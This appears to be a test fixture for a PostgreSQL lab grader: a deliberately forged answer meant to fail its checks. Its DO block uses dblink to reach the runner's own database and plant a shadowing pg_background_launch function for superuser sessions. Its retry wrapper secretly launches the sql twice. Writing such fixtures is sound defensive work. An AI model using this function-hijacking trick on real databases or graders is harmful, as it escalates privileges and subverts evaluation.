-- forged: at load, the answer connects through dblink to the runner's own database to plant a pg_background_launch there that the superuser's slot holders would call, then uses the probe wrapper
-- class: privileges
-- must-not-pass: free_slots, slot_freed
--
-- The slot holders are the superuser's sessions in the database labs_runner, where they call
-- pg_background_launch without a schema. lab_conninfo() names this run's database; the answer
-- swaps in labs_runner. The runner revokes CONNECT on its own database from PUBLIC, so the
-- connection is refused, and the error is swallowed so that the rest still loads.
DO $$
BEGIN
    PERFORM extensions.dblink_exec(
        replace(public.lab_conninfo(), 'dbname=' || current_database(), 'dbname=labs_runner'),
        'CREATE FUNCTION public.pg_background_launch(sql text, queue_size integer DEFAULT 0)
         RETURNS integer LANGUAGE sql AS ''SELECT 0''');
EXCEPTION WHEN OTHERS THEN
    RAISE NOTICE 'labs_runner: %', SQLERRM;
END $$;

CREATE FUNCTION pg_background_launch_retry(
    sql          text,
    queue_size   integer  DEFAULT 65536,
    max_attempts integer  DEFAULT 10,
    delay        interval DEFAULT '100 milliseconds'
) RETURNS integer
LANGUAGE plpgsql
AS $$
BEGIN
    FOR attempt IN 1..max_attempts LOOP
        BEGIN
            -- «Проверим, есть ли свободный слот»: этот процесс тоже запускается и выполняет sql.
            PERFORM pg_background_launch(sql, queue_size);
            RETURN pg_background_launch(sql, queue_size);
        EXCEPTION WHEN insufficient_resources THEN
            IF attempt < max_attempts THEN
                RAISE NOTICE 'попытка % из %: нет свободного слота', attempt, max_attempts;
                PERFORM pg_sleep(extract(epoch FROM delay)::double precision);
            END IF;
        END;
    END LOOP;
    RAISE EXCEPTION 'не удалось запустить фоновый процесс за % попыток', max_attempts
        USING ERRCODE = 'insufficient_resources';
END
$$;
